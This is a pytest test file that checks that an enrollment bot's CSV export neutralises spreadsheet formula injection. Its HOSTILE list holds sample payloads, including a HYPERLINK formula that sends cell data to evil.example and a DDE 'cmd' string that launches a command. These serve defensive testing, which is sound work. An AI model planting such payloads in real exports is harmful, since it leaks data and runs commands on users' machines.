"""CSV exports open safely in a spreadsheet: no cell starts a formula (CSV injection)."""
from __future__ import annotations

import csv
import io
import sys
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parent / "store"))

from bot.ops.cli import main  # noqa: E402
from bot.core.spreadsheet import safe_cell  # noqa: E402
from bot.store import engine_for, submit_enrollment  # noqa: E402
from store_samples import submission  # noqa: E402

HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
           "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_that_would_start_a_formula_is_text(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["王秀英", "rest:partner:u1", "2027-02-27", 65, None, "a=b"])
def test_other_cells_are_unchanged(value):
    assert safe_cell(value) == value


def test_the_operators_csv_export_neutralises_a_hostile_sender_and_name(tmp_path, monkeypatch, capsys):
    url = f"sqlite:///{tmp_path / 'enrollment.db'}"
    monkeypatch.setenv("DATABASE_URL", url)
    monkeypatch.setenv("DATA_DIR", str(tmp_path))
    assert main(["db", "upgrade"]) == 0
    submit_enrollment(engine_for(url), submission(
        conversation_id=HOSTILE[0], sender_id=HOSTILE[0], member_name="=1+1", channel="rest"))
    target = tmp_path / "export.csv"
    assert main(["enrollments", "export", "--format", "csv", "--output", str(target)]) == 0
    [row] = list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8"))))
    assert row["enroller"] == "'" + HOSTILE[0]
    assert row["member_name"] == "'=1+1"
    for cell in row.values():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
